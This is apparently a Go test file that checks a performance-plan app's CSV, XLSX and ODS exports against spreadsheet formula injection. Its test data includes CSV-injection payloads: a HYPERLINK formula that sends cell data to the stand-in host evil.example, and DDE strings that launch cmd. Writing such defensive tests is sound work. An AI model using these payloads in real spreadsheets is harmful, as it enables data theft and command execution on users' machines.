package report_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/performa-pa/performa/internal/ingest"
	"github.com/performa-pa/performa/internal/report"
)

// What a manager may type as a title, and what a spreadsheet would run.
var formulaTitles = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"clic")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`'=già protetto`,
	`''+due apici`,
	`=`,
}

// plainNumber is a cell a spreadsheet reads as a number: no formula can
// hide in it, so it is written as it is.
var plainNumber = regexp.MustCompile(`^[+-]?[0-9][0-9.,]*%?$`)

// TestCSVNeutralisesFormulas: a CSV field starting with =, +, -, @, a tab
// or a carriage return is a formula to Excel and LibreOffice. The export
// prefixes it with an apostrophe (OWASP's rule), and reading the CSV back
// takes the apostrophe away, so that the round trip gives the same plan.
func TestCSVNeutralisesFormulas(t *testing.T) {
	p := seedPlan(t)
	objs := p.Units[0].Objectives
	for i, title := range formulaTitles {
		objs[i].Title = title
	}
	objs[len(formulaTitles)].Notes = "-5" // a number stays a number
	want := planContent(t, p)

	var buf bytes.Buffer
	if err := report.CSV(&buf, p); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	r.Comma, r.FieldsPerRecord, r.LazyQuotes = ';', -1, true
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for n, rec := range records {
		for _, f := range rec {
			if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) && !plainNumber.MatchString(f) {
				t.Errorf("record %d: field %q would run as a formula", n+1, f)
			}
			seen[f] = true
		}
	}
	for _, title := range formulaTitles {
		if !seen["'"+title] {
			t.Errorf("title %q not written as %q", title, "'"+title)
		}
	}
	if !seen["-5"] {
		t.Errorf("the number -5 was not written as it is")
	}

	back, err := ingest.Parse("piano.csv", buf.Bytes(), ingest.Options{Organization: p.Organization.Name})
	if err != nil {
		t.Fatal(err)
	}
	sameContent(t, want, planContent(t, back))
}

// TestWorkbooksKeepFormulasText: XLSX and ODS cells carry a type, and a
// title is written as text, never as a formula, whatever it starts with.
func TestWorkbooksKeepFormulasText(t *testing.T) {
	p := seedPlan(t)
	for i, title := range formulaTitles {
		p.Units[0].Objectives[i].Title = title
	}
	var x bytes.Buffer
	if err := report.XLSX(&x, p); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&x)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	rows, _ := f.GetRows(sheet)
	found := map[string]bool{}
	for r, row := range rows {
		for c, v := range row {
			name, _ := excelize.CoordinatesToCellName(c+1, r+1)
			formula, _ := f.GetCellFormula(sheet, name)
			for _, title := range formulaTitles {
				if v == title {
					found[title] = true
					if formula != "" {
						t.Errorf("XLSX %s: title %q written as formula %q", name, title, formula)
					}
				}
			}
		}
	}
	for _, title := range formulaTitles {
		if !found[title] {
			t.Errorf("XLSX: title %q not found as text", title)
		}
	}

	var o bytes.Buffer
	if err := report.ODS(&o, p); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(o.Bytes()), int64(o.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var content []byte
	for _, zf := range zr.File {
		if zf.Name == "content.xml" {
			rc, _ := zf.Open()
			content, _ = io.ReadAll(rc)
			rc.Close()
		}
	}
	// Every formula of the ODS is a total of the weights.
	for _, m := range regexp.MustCompile(`table:formula="([^"]*)"`).FindAllStringSubmatch(string(content), -1) {
		if !strings.HasPrefix(m[1], "of:=SUM([.") {
			t.Errorf("ODS formula %q", m[1])
		}
	}
	back, err := ingest.Parse("piano.ods", o.Bytes(), ingest.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i, title := range formulaTitles {
		if got := back.Units[0].Objectives[i].Title; got != title {
			t.Errorf("ODS round trip: title %q read back as %q", title, got)
		}
	}
}
